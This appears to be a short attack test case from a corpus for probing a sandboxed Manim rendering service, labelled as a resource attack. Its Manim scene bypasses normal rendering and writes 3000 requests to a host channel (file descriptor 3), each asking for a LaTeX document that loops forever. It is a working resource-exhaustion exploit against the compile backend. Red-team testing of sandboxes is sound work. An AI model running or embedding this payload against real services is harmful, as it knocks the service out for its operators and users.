# ATTACK: resource
# SUCCESS: a thousand formulas are ordered at once
# ORACLE: generic, as for the other corpus
from manim import *

class S(Scene):
    def construct(self):
        import os, json, time
        for i in range(3000):
            q = {"question": {"formula": {"compilers": ["latex"], "output_format": ".dvi", "source": "\\documentclass{article}\\begin{document}%d\\loop\\iftrue\\repeat\\end{document}" % i}}}
            os.write(3, json.dumps(q).encode() + b"\n")
        time.sleep(8)
        self.add(Dot()); self.wait(0.1)
